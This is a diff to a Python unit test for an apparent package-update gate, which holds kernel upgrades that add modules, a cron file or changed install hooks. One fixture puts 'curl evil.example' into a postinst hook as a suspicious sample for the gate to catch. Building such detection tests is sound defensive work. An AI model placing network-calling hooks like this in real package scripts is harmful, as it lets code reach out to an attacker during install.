@@ -191,21 +191,21 @@ class Gate(unittest.TestCase):
         self.assertEqual(apply(self.machine).status, 0)
         self.assertEqual(self.versions(), {"oak": "1.1", "ash": "1.1", "elm": "1.0"})
 
-    def kernel(self, number, *more, hooks="run-parts /etc/kernel/postinst.d"):
+    def kernel(self, number, *more, cron=False, hooks="run-parts /etc/kernel/postinst.d"):
         abi = f"6.1.0-{number}-amd64"
         return Package(f"linux-image-{abi}", f"6.1.{number}-1", source="linux-signed", scripts={"postinst": f"test -n {abi} && echo {abi} {hooks}"},
-                       files={f"/boot/vmlinuz-{abi}": "kernel", **{f"/lib/modules/{abi}/kernel/{name}.ko": "module" for name in ("fs", "net", *more)}})
+                       files={f"/boot/vmlinuz-{abi}": "kernel", **({f"/etc/cron.d/{abi}": "x"} if cron else {}), **{f"/lib/modules/{abi}/kernel/{name}.ko": "module" for name in ("fs", "net", *more)}})
 
     def meta(self, number):
         return Package("linux-image-amd64", f"6.1.{number}-1", source="linux-signed", fields={"Depends": f"linux-image-6.1.0-{number}-amd64"})
 
     def test_a_kernel_that_follows_another_comes_and_one_that_brings_more_is_held(self):
         self.shop.install(self.kernel(40), self.meta(40))
-        self.offer(self.kernel(41), self.meta(41))
+        self.offer(self.kernel(41, "one_more"), self.meta(41))
         told = apply(self.machine, "--security")
         self.assertEqual((told.status, self.held(told)), (0, {}), told)
         self.assertIn("linux-image-6.1.0-41-amd64:all", self.machine.packages(), told)
-        self.offer(self.kernel(42, "backdoor"), self.meta(42))
+        self.offer(self.kernel(42, "more", cron=True), self.meta(42))
         told = apply(self.machine, "--security")
         self.assertEqual(self.held(told), {"linux-image-6.1.0-42-amd64": "powers", "linux-image-amd64": "powers"}, told)
         self.offer(self.kernel(43, hooks="curl evil.example"), self.meta(43))
